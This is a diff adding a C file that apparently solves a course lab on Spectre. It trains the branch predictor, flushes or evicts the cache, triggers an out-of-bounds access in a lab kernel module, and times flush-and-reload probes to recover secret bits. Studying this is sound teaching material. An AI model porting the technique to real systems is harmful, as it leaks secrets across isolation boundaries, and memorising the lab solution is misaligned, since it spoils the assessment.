@@ -0,0 +1,135 @@
+#include <stdlib.h>
+#include <string.h>
+#include "spectre_probe.h"
+#include "spectre_solution.h"
+#include "spectre_timer.h"
+#include "probe_kernels.h"
+
+size_t probe_field_bits = 0;
+
+/*
+ * probe_order
+ * i-th line to reload out of num_lines (a power of two): i with its bits reversed.
+ * Consecutive reloads land at least num_lines / 4 pages apart and never form a
+ * constant stride. Reloading a page right after one of its neighbours lets the
+ * prefetcher pull it in first, which with only 4 or 16 lines (all on adjacent
+ * pages) shows up as a hit on every sweep.
+ */
+static size_t probe_order(size_t i, size_t num_lines)
+{
+    size_t reversed = 0;
+    for (size_t bit = 1; bit < num_lines; bit <<= 1) {
+        reversed = (reversed << 1) | (i & 1);
+        i >>= 1;
+    }
+    return reversed;
+}
+
+bool parse_probe_radix(const char* radix, size_t* field_bits)
+{
+    static const size_t widths[] = { 1, 2, 4, 0 };
+    char* end;
+    unsigned long lines = strtoul(radix, &end, 10);
+    if (*radix == '\0' || *end != '\0') return false;
+
+    for (size_t i = 0; i < sizeof(widths) / sizeof(widths[0]); i++) {
+        if (probe_field_lines(widths[i]) == lines) {
+            *field_bits = widths[i];
+            return true;
+        }
+    }
+    return false;
+}
+
+size_t probe_field_lines(size_t field_bits)
+{
+    return field_bits ? (size_t)1 << field_bits : PROBE_NUM_LINES;
+}
+
+size_t probe_num_lines(const ProbeConfig *config)
+{
+    return probe_field_lines(config->field_bits);
+}
+
+static void fill_commands(spectre_lab_command* cmds, const ProbeConfig* config, size_t count, uint32_t flags, size_t offset)
+{
+    if (config->field_bits) {
+        flags |= SHD_SPECTRE_LAB_FLAG_FIELD(config->field_bits, config->field_shift);
+    }
+    if (config->secret_store) {
+        flags |= SHD_SPECTRE_LAB_FLAG_STORE;
+    }
+    for (size_t i = 0; i < count; i++) {
+        cmds[i].kind = config->kind;
+        cmds[i].flags = flags;
+        cmds[i].arg1 = (uintptr_t)config->shared_memory;
+        cmds[i].arg2 = offset;
+    }
+}
+
+void flush_probe_lines(char *shared_memory, size_t num_lines)
+{
+    probe_flush_lines(shared_memory, SHD_SPECTRE_LAB_PAGE_SIZE, num_lines);
+}
+
+void reload_probe_lines(char *shared_memory, uint64_t timings[PROBE_NUM_LINES], size_t num_lines)
+{
+    uint32_t offsets[PROBE_NUM_LINES];
+    uint64_t latencies[PROBE_NUM_LINES];
+
+    // Work out the visit order up front, so the timed loop only loads
+    for (size_t i = 0; i < num_lines; i++) {
+        offsets[i] = probe_order(i, num_lines) * SHD_SPECTRE_LAB_PAGE_SIZE;
+    }
+    time_access_lines(shared_memory, offsets, latencies, num_lines);
+    for (size_t i = 0; i < num_lines; i++) {
+        timings[probe_order(i, num_lines)] = latencies[i];
+    }
+}
+
+void probe_sweep(const ProbeConfig *config, size_t offset, uint64_t timings[PROBE_NUM_LINES])
+{
+    spectre_lab_command cmds[SHD_SPECTRE_LAB_MAX_BATCH_LEN];
+    size_t num_training = config->num_training;
+    size_t evict_repeats = config->evict_repeats;
+    size_t num_lines = probe_num_lines(config);
+    size_t num_cmds = 0;
+    if (num_training > SHD_SPECTRE_LAB_MAX_BATCH_LEN - 1) {
+        num_training = SHD_SPECTRE_LAB_MAX_BATCH_LEN - 1;
+    }
+
+    // Training is always in bounds (offset 0). The victim flushes the
+    // probe region after each training call, so it can't pollute the sweep.
+    if (evict_repeats > 0) {
+        if (num_training > 0) {
+            fill_commands(cmds, config, num_training, SHD_SPECTRE_LAB_FLAG_TRAIN, 0);
+            submit_command_batch(config->kernel_fd, cmds, num_training);
+        }
+        flush_probe_lines(config->shared_memory, num_lines);
+        if (config->eviction_set != NULL) {
+            REPEAT(evict_repeats) evict_with_set(config->eviction_set);
+        } else {
+            REPEAT(evict_repeats) evict_all_cache();
+        }
+    } else {
+        flush_probe_lines(config->shared_memory, num_lines);
+        fill_commands(cmds, config, num_training, SHD_SPECTRE_LAB_FLAG_TRAIN, 0);
+        num_cmds = num_training;
+    }
+
+    fill_commands(cmds + num_cmds, config, 1, 0, offset);
+    submit_command_batch(config->kernel_fd, cmds, num_cmds + 1);
+
+    reload_probe_lines(config->shared_memory, timings, num_lines);
+}
+
+size_t probe_fastest_line(const uint64_t timings[PROBE_NUM_LINES], size_t num_lines)
+{
+    size_t fastest = 0;
+    for (size_t i = 1; i < num_lines; i++) {
+        if (timings[i] < timings[fastest]) {
+            fastest = i;
+        }
+    }
+    return fastest;
+}